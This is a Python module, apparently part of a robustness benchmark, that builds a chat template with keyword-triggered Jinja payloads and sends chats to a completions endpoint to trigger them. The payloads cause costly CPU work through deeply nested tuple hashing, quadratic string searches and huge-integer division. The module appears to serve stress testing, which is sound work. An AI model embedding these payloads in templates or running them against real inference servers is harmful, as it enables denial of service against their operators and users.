"""A chat template that does harm, and chats that make it do so."""

from collections import Counter
from typing import Final

from benchmarks.product.hostile.bodies import repeated
from benchmarks.product.hostile.target import Target

AT_ONCE: Final = 2
NEST: Final = "{% for _ in range(26) %}{% set ns.t = (ns.t, ns.t) %}{% endfor %}"
HARMS: Final = {
    "hash": "{% set ns = namespace(t=(1,)) %}" + NEST + "{{ {ns.t: 1} | length }}",
    "subscript": "{% set ns = namespace(t=(1,)) %}" + NEST + "{{ {}[ns.t] }}",
    "rfind": "{% set s = last * 120000 %}{{ s.rfind(last ~ 'b' ~ s[:60000]) }}",
    "rsplit": "{% set s = last * 120000 %}{{ s.rsplit(last ~ 'b' ~ s[:60000]) | length }}",
    "rpartition": "{% set s = last * 120000 %}{{ s.rpartition(last ~ 'b' ~ s[:60000]) | length }}",
    "divide": "{{ ((last * 400000) | int(0, 16) // (last * 200000) | int(1, 16)) is divisibleby(7) }}",
    "changed": "{% for _ in range(2) %}{% set ns = namespace(t=(1,)) %}" + NEST + "{{ loop.changed(ns.t) }}"
    "{% endfor %}",
}
"""What a template can do that costs far more than its length, by the word that asks for it. Without one of
these words the template is harmless, so that no trial sees it. Each takes seconds and comes to an end, so
that the run goes on. ``last`` is the last character of the message."""
TEMPLATE: Final = (
    "{% set text = messages[-1].content %}{% set last = text[-1:] %}"
    + "".join(
        "{% if text.startswith('" + name + "') %}" + harm + "{% endif %}" for name, harm in HARMS.items()
    )
    + "{% for message in messages %}{{ message.role }}: {{ message.content }}\n{% endfor %}"
)


def hostile_templates(target: Target, until: float) -> Counter[str]:
    """Chats that make the template of their root work hard. Without such a root, all were refused."""
    if not target.templated:
        return Counter({"refused": 1})
    writer, harms = target.writing(), list(HARMS)
    with writer.http() as http:

        def send(number: int) -> str:
            said = [{"role": "user", "content": f"{harms[number % len(harms)]} {target.words} f"}]
            body = {"model": target.templated, "messages": said, "max_tokens": 1}
            return str(http.post("/v1/chat/completions", json=body).status_code)

        return repeated(send, until, AT_ONCE)
